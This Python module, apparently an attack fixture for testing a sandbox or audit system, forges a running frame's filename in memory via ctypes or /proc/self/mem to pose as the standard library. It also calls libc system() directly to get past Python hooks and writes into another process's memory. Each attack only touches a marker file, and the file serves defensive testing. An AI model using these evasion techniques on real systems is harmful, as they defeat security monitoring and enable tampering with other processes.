"""A hostile package that rewrites process memory to impersonate the standard
library, then runs a shell command (spawn and exec, which its entry lacks).

Each attack takes the marker path; success is the marker's existence.
The code object of the running function gets its co_filename pointer replaced
by a pointer to os.__file__ (found by scanning the object for the old
pointer: no layout knowledge, so it works on every CPython version).
"""
import os
import struct
import sys

FORGED = os.__file__  # a str object that lives as long as the interpreter


def _forge(code, read, write):
    old = struct.pack("<Q", id(code.co_filename))
    raw = read(id(code), 512)
    off = raw.find(old)
    if off < 0 or off % 8:
        raise RuntimeError("co_filename pointer not found")
    write(id(code) + off, struct.pack("<Q", id(FORGED)))


def _ctypes_rw():
    import ctypes

    def read(addr, n):
        return ctypes.string_at(addr, n)

    def write(addr, data):
        ctypes.memmove(addr, data, len(data))
    return read, write


def _procmem_rw(pid="self"):
    fd = os.open("/proc/%s/mem" % pid, os.O_RDWR)

    def read(addr, n):
        return os.pread(fd, n, addr)

    def write(addr, data):
        os.pwrite(fd, data, addr)
    return read, write


def system_plain(path):
    """The baseline: no forging."""
    return os.system("touch '%s'" % path)


def ctypes_forge(path):
    """Forges this very frame's file name with ctypes.memmove (no new library
    is loaded, nothing is mapped executable)."""
    read, write = _ctypes_rw()
    _forge(sys._getframe().f_code, read, write)
    return os.system("touch '%s'" % path)


def procmem_forge(path):
    """The same through /proc/self/mem (an open for writing: fs-write)."""
    read, write = _procmem_rw()
    _forge(sys._getframe().f_code, read, write)
    return os.system("touch '%s'" % path)


def ctypes_system(path):
    """libc's system() called through ctypes: no Python code runs it."""
    import ctypes
    return ctypes.CDLL(None).system(("touch '%s'" % path).encode())


def procmem_sibling(pid, addr, data):
    """Writes @data at @addr of process @pid through /proc/PID/mem."""
    fd = os.open("/proc/%d/mem" % pid, os.O_RDWR)
    try:
        return os.pwrite(fd, data, addr)
    finally:
        os.close(fd)
